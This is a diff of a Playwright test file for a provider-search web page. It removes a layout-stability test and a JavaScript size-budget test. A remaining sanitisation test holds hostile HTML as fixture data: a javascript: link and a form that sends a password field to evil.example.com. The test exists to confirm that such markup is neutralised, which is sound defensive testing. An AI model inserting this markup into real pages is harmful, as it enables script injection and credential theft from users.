@@ -35,26 +35,6 @@ test.describe('at an address without a search', () => {
   })
 })
 
-for (const [name, size] of Object.entries(sizes)) {
-  test(`a search can be read before its code is there, and nothing moves when it comes (${name})`, async ({
-    page,
-  }) => {
-    const places = () =>
-      page
-        .locator('h1, .written > *')
-        .evaluateAll((parts) => parts.map((part) => part.getBoundingClientRect().toJSON()))
-    const { promise: held, resolve: release } = Promise.withResolvers<void>()
-    await page.route('**/*.js', (route) => held.then(() => route.continue()))
-    await page.setViewportSize(size)
-    await page.goto('/domestic-provider-search', { waitUntil: 'commit' })
-    await expect(page.locator('.written > :last-child')).toBeVisible()
-    const early = await places()
-    release()
-    await expect(page.getByRole('button', { name: 'Search' })).toBeVisible()
-    expect(await places()).toEqual(early)
-  })
-}
-
 test('what administrators wrote can neither run, submit nor embed', async ({ page }) => {
   const content = `<p id="name">Safe <a href="javascript:alert(1)">words</a></p>
     <form action="https://evil.example.com"><input name="password"></form>
@@ -201,16 +181,4 @@ test('on paper only the page itself remains', async ({ page }) => {
   await expect(page.getByRole('contentinfo')).toBeHidden()
   await expect(page.getByRole('region', { name: 'Cookies' })).toBeHidden()
   await expect(page.getByRole('main')).toBeVisible()
-})
-
-test('all of the pages’ code for a first visit stays under 250 KB as it travels', async ({ page }) => {
-  await page.goto('/domestic-provider-search', { waitUntil: 'networkidle' })
-  const bytes = await page.evaluate(() =>
-    performance
-      .getEntriesByType('resource')
-      .filter(({ name }) => name.endsWith('.js'))
-      .reduce((sum, entry) => sum + (entry as PerformanceResourceTiming).encodedBodySize, 0),
-  )
-  expect(bytes).toBeGreaterThan(50_000)
-  expect(bytes).toBeLessThan(250_000)
 })
